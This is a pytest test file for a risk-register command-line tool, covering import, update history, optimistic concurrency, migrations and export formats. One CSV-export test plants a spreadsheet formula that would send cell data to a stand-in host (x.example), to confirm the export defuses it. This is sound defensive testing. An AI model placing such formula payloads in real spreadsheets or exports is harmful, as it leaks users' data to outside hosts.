"""Risk register: import, list, show, update, history, export; IDs; optimistic concurrency."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from engine.cli import cli
from tests.register_support import db  # noqa: F401 (fixture)
from engine.register.store import RegisterStore
from schemas.loading import load_findings

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples"


def rb(*args, code=0):
    r = CliRunner().invoke(cli, ["register", *args])
    assert r.exit_code == code, (r.output, r.exception)
    return r.output


def test_import_all_examples_and_list(db):
    out = rb("import", *(str(EXAMPLES / f"{n}.yaml") for n in ("sentiment", "credit", "agent")))
    assert "Sentiment classifier: 2 new, 0 updated, 0 unchanged" in out
    records = json.loads(rb("list", "--json"))
    assert len(records) == 7
    ids = {r["id"] for r in records}
    # F3 exists only in the agent example, so its bare id is enough; F1 is in all three.
    assert "F3" in ids and "Sentiment classifier/F1" in ids and "F1" not in ids
    assert {r["id"] for r in json.loads(rb("list", "--severity", "critical", "--json"))} == {
        "Credit scoring model/F2", "Customer support agent/F1"}
    assert {r["id"] for r in json.loads(rb("list", "--status", "accepted", "--json"))} == {"F3"}
    assert {r["id"] for r in json.loads(rb("list", "--owner", "ml platform", "--json"))} == {
        "Sentiment classifier/F1", "Sentiment classifier/F2"}


def test_reimport_is_idempotent_and_keeps_manual_changes(db, tmp_path):
    src = tmp_path / "credit.yaml"
    src.write_text((EXAMPLES / "credit.yaml").read_text())
    rb("import", str(src))
    rb("update", "Credit scoring model/F2", "--status", "mitigating", "--by", "alice")
    assert "0 new, 0 updated, 2 unchanged" in rb("import", str(src))
    # The file changes F2's owner; the hand-set status survives, the new owner is taken.
    src.write_text(src.read_text().replace("owner: Chief Risk Officer", "owner: Head of Model Risk"))
    assert "0 new, 1 updated, 1 unchanged" in rb("import", str(src))
    r = json.loads(rb("show", "Credit scoring model/F2", "--json"))
    assert (r["status"], r["owner"], r["version"]) == ("mitigating", "Head of Model Risk", 3)


def test_ambiguous_and_unknown_ids_exit_2(db):
    rb("import", str(EXAMPLES / "sentiment.yaml"), str(EXAMPLES / "credit.yaml"))
    r = CliRunner().invoke(cli, ["register", "show", "F1"])
    assert r.exit_code == 2
    assert "ambiguous" in r.output and "Credit scoring model/F1" in r.output and "Sentiment classifier/F1" in r.output
    assert "Traceback" not in r.output
    r = CliRunner().invoke(cli, ["register", "update", "F9", "--note", "x"])
    assert r.exit_code == 2 and "no risk 'F9'" in r.output


def test_update_records_who_when_and_history_is_complete(db):
    rb("import", str(EXAMPLES / "agent.yaml"))
    out = rb("update", "F1", "--status", "mitigating", "--note", "Playbook drafted")
    assert "version 2" in out
    rb("update", "F1", "--owner", "COO", "--by", "board secretary")
    events = json.loads(rb("history", "F1", "--json"))
    assert [e["version"] for e in events] == [1, 2, 3]
    assert events[1]["by"] == "tester" and events[1]["changes"] == {"status": ["open", "mitigating"]}
    assert events[1]["note"] == "Playbook drafted" and events[1]["at"].endswith("Z")
    assert events[2]["by"] == "board secretary"
    assert events[2]["changes"] == {"owner": ["Head of Digital Support", "COO"]}
    text = rb("history", "F1")
    assert "v2" in text and "status: open → mitigating" in text and "note: Playbook drafted" in text
    show = rb("show", "F1")
    assert "Status:      mitigating" in show and "Owner:       COO" in show


def test_update_needs_a_change(db):
    rb("import", str(EXAMPLES / "agent.yaml"))
    r = CliRunner().invoke(cli, ["register", "update", "F1"])
    assert r.exit_code == 2 and "give --status, --owner or --note" in r.output


def test_stale_pinned_update_fails_with_exit_1_and_writes_nothing(db):
    rb("import", str(EXAMPLES / "agent.yaml"))
    rb("update", "F2", "--status", "closed", "--expect-version", "1")
    r = CliRunner().invoke(cli, ["register", "update", "F2", "--owner", "Mallory", "--expect-version", "1"])
    assert r.exit_code == 1
    assert "at version 2, not 1" in r.output
    rec = json.loads(rb("show", "F2", "--json"))
    assert rec["owner"] == "Security engineering lead" and rec["version"] == 2
    assert len(json.loads(rb("history", "F2", "--json"))) == 2


def test_export_formats(db, tmp_path):
    rb("import", str(EXAMPLES / "credit.yaml"))
    rows = list(csv.DictReader(io.StringIO(rb("export", "--format", "csv"))))
    assert [r["finding_id"] for r in rows] == ["F1", "F2"]
    assert rows[1]["open_mitigations"] == "Run a quarterly fairness audit of approval rates by age group"
    md = rb("export", "--format", "md")
    assert md.startswith("# Risk register") and "| F2 | Credit scoring model | Approval rates differ by age group |" in md
    out = tmp_path / "reg.json"
    rb("export", "--format", "json", "-o", str(out))
    assert json.loads(out.read_text())[0]["mitigations"][0]["owner"] == "Credit Risk Analytics"


def test_csv_export_never_hands_a_spreadsheet_a_formula(db, tmp_path):
    text = (EXAMPLES / "credit.yaml").read_text(encoding="utf-8")
    title = "Approval rates differ by age group"
    assert title in text
    planted = tmp_path / "credit.yaml"
    planted.write_text(text.replace(title, '=HYPERLINK("http://x.example/?d="&A1,"Open")'), encoding="utf-8")
    rb("import", str(planted))
    rows = list(csv.DictReader(io.StringIO(rb("export", "--format", "csv"))))
    cells = [v for r in rows for v in r.values()]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert '\'=HYPERLINK("http://x.example/?d="&A1,"Open")' in cells  # kept, shown as text
    # JSON keeps the findings' own text
    assert any(r["title"].startswith("=HYPERLINK") for r in json.loads(rb("export", "--format", "json")))


def test_import_bad_file_writes_nothing(db, tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text((EXAMPLES / "agent.yaml").read_text().replace("severity: high", "severity: huge"))
    r = CliRunner().invoke(cli, ["register", "import", str(EXAMPLES / "credit.yaml"), str(bad)])
    assert r.exit_code == 2 and "findings[1].severity" in r.output
    assert "empty" in rb("list")


def test_bad_url_is_a_clear_error(tmp_path):
    r = CliRunner().invoke(cli, ["register", "--db", "nonsense", "list"])
    assert r.exit_code == 2 and "is not a database URL" in r.output


def test_schema_is_migrated_with_alembic(db):
    store = RegisterStore()
    from sqlalchemy import inspect, text

    with store.engine.connect() as conn:
        assert conn.execute(text("SELECT version_num FROM alembic_version")).scalar() == "0002"
    assert {"risks", "risk_history"} <= set(inspect(store.engine).get_table_names())
    RegisterStore()  # opening again is a no-op


def test_history_is_append_only_in_the_database(db):
    from sqlalchemy import text
    from sqlalchemy.exc import DatabaseError

    rb("import", str(EXAMPLES / "agent.yaml"))
    store = RegisterStore()
    for stmt in ("UPDATE risk_history SET by = 'mallory'", "DELETE FROM risk_history"):
        with pytest.raises(DatabaseError, match="append-only"):
            with store.engine.begin() as conn:
                conn.execute(text(stmt))
    assert len(json.loads(rb("history", "F1", "--json"))) == 1


def test_upgrade_from_first_schema_keeps_data(tmp_path):
    from alembic import command
    from sqlalchemy import create_engine

    from engine.register.db import _migration_config

    url = f"sqlite:///{tmp_path / 'old.db'}"
    engine = create_engine(url)
    with engine.begin() as conn:
        command.upgrade(_migration_config(conn), "0001")
    with engine.begin() as conn:
        conn.exec_driver_sql(
            "INSERT INTO risks (system, finding_id, title, category, mitigations, source, created_at, updated_at, "
            "version) VALUES ('Old system', 'F1', 'Old risk', 'safety', '[]', '{}', 't', 't', 1)")
    store = RegisterStore(url)  # opening migrates to head
    assert store.resolve("F1").title == "Old risk"


HAMMER = textwrap.dedent("""
    import os, sys, time
    from engine.register.store import RegisterStore
    url, tag, n, go = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    store = RegisterStore(url)
    open(go + "." + tag, "w").close()  # ready
    while not os.path.exists(go):  # start together, so the writers really race
        time.sleep(0.005)
    for k in range(n):
        store.update("F3", note=f"{tag}-{k}", by=tag)
""")


def hammer(url: str, tmp_path: Path, n: int = 200) -> list[dict]:
    RegisterStore(url).import_document(load_findings(EXAMPLES / "agent.yaml"))
    script = tmp_path / "hammer.py"
    script.write_text(HAMMER)
    go = tmp_path / "go"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    procs = [subprocess.Popen([sys.executable, str(script), url, tag, str(n), str(go)], env=env,
                              stderr=subprocess.PIPE, text=True) for tag in ("a", "b")]
    deadline = time.monotonic() + 120
    while not all((tmp_path / f"go.{tag}").exists() for tag in "ab") and time.monotonic() < deadline:
        time.sleep(0.01)
    go.write_text("go")
    for p in procs:
        _, err = p.communicate(timeout=300)
        assert p.returncode == 0, err
    store = RegisterStore(url)
    _, events = store.history("F3")
    return [{"version": e.version, "note": e.note, "by": e.by} for e in events], store.resolve("F3").version


def check_no_update_lost(events, final_version, n=200):
    assert final_version == 1 + 2 * n
    assert [e["version"] for e in events] == list(range(1, 2 * n + 2))
    notes = [e["note"] for e in events[1:]]
    assert sorted(notes) == sorted([f"a-{k}" for k in range(n)] + [f"b-{k}" for k in range(n)])
    # Each writer's updates appear once each, in the order it made them.
    for tag in "ab":
        mine = [int(x.split("-")[1]) for x in notes if x.startswith(tag)]
        assert mine == list(range(n))


def test_two_processes_200_updates_each_none_lost(db, tmp_path):
    events, final = hammer(db, tmp_path)
    check_no_update_lost(events, final)


def test_default_register_is_a_file_in_the_working_directory(tmp_path, monkeypatch):
    monkeypatch.delenv("RISKBRIEF_REGISTER_URL", raising=False)
    monkeypatch.chdir(tmp_path)
    rb("import", str(EXAMPLES / "agent.yaml"))
    assert (tmp_path / "riskbrief-register.db").is_file()


def test_cli_updates_from_two_processes_are_all_recorded(db, tmp_path):
    rb("import", str(EXAMPLES / "agent.yaml"))
    exe = Path(sys.executable).with_name("riskbrief")
    if not exe.exists():
        pytest.skip(f"console script not installed next to {sys.executable}")
    loop = "for i in 1 2 3 4; do \"$0\" register update F1 --note \"$1-$i\" --by \"$1\" >/dev/null || exit 1; done"
    procs = [subprocess.Popen(["sh", "-c", loop, str(exe), tag], env={**os.environ}, stderr=subprocess.PIPE, text=True)
             for tag in ("a", "b")]
    for p in procs:
        _, err = p.communicate(timeout=300)
        assert p.returncode == 0, err
    events = json.loads(rb("history", "F1", "--json"))
    assert [e["version"] for e in events] == list(range(1, 10))
    assert sorted(e["note"] for e in events[1:]) == sorted(f"{t}-{i}" for t in "ab" for i in range(1, 5))


def test_database_failure_is_a_clear_error_not_a_traceback(db):
    from sqlalchemy import text

    rb("import", str(EXAMPLES / "agent.yaml"))
    with RegisterStore().engine.begin() as conn:  # simulate a damaged register
        conn.execute(text("DROP TABLE risk_history"))
        conn.execute(text("DROP TABLE risks"))
    r = CliRunner().invoke(cli, ["register", "list"])
    assert r.exit_code == 2 and "failed: no such table: risks" in r.output
    assert r.exception is None or isinstance(r.exception, SystemExit)


def test_an_update_to_what_the_risk_already_says_records_no_new_version(db):
    rb("import", str(EXAMPLES / "agent.yaml"))
    rb("update", "F1", "--status", "mitigating", "--owner", "Chief Data Officer")
    version = json.loads(rb("show", "F1", "--json"))["version"]
    out = rb("update", "F1", "--status", "mitigating", "--owner", "Chief Data Officer")
    assert "unchanged" in out and f"version {version}" in out
    assert json.loads(rb("show", "F1", "--json"))["version"] == version
    assert len(json.loads(rb("history", "F1", "--json"))) == version
    # a note is news even when no field moves, and a real change still counts
    assert f"version {version + 1}" in rb("update", "F1", "--status", "mitigating", "--note", "reviewed again")
    assert f"version {version + 2}" in rb("update", "F1", "--status", "accepted")
